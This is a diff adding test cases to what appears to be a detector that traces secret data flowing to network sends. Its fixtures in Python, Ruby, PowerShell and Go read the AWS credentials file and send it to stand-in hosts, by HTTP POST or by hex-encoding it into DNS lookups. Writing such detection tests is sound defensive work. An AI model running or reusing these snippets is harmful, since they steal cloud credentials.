@@ -1056,6 +1056,23 @@ for ($i = 0; $i -lt $hex.Length; $i += 60) {
       expect(es.filter((e) => e.kind === 'send')).toEqual([]);
     });
   });
+
+  describe('an assignment in a branch that may not run', () => {
+    // (`if not seed: seed = b"none"`: where the branch is not taken, the variable still holds what was read)
+    it.each([
+      ['Python', () => py('import socket\nfrom pathlib import Path\nseed = (Path.home() / ".aws" / "credentials").read_bytes()\nif not seed:\n    seed = b"none"\nsocket.gethostbyname(seed.hex()[:60] + ".z.example.invalid")\n')],
+      ['Ruby', () => rb("require 'net/http'\ndata = File.read(File.join(Dir.home, '.aws', 'credentials'))\nif data.empty?\n  data = 'none'\nend\nNet::HTTP.post(URI('https://x.example.invalid/u'), data)\n")],
+      ['PowerShell', () => ps("$data = Get-Content -Raw (Join-Path $HOME '.aws/credentials')\nif (-not $data) {\n  $data = 'none'\n}\nInvoke-RestMethod -Uri 'https://x.example.invalid/u' -Method Post -Body $data\n")],
+      ['Go', () => go('package main\n\nimport (\n\t"encoding/hex"\n\t"net"\n\t"os"\n\t"path/filepath"\n)\n\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tseed, _ := os.ReadFile(filepath.Join(home, ".aws/credentials"))\n\tif len(seed) == 0 {\n\t\tseed = []byte("none")\n\t}\n\tnet.LookupHost(hex.EncodeToString(seed) + ".z.example.invalid")\n}\n')],
+    ])('keeps what the variable held in %s', (_lang, lower) => {
+      const es = lower();
+      expect(flows(es, readOf('cloud-credentials'), untrustedSend)).toBe(true);
+    });
+    it('a plain reassignment still replaces the value', () => {
+      const es = py('import socket\nfrom pathlib import Path\nseed = (Path.home() / ".aws" / "credentials").read_bytes()\nseed = b"none"\nsocket.gethostbyname(seed.hex() + ".z.example.invalid")\n');
+      expect(flows(es, readOf('cloud-credentials'), untrustedSend)).toBe(false);
+    });
+  });
 });
 
 describe('what a schedule or start-up file starts', () => {
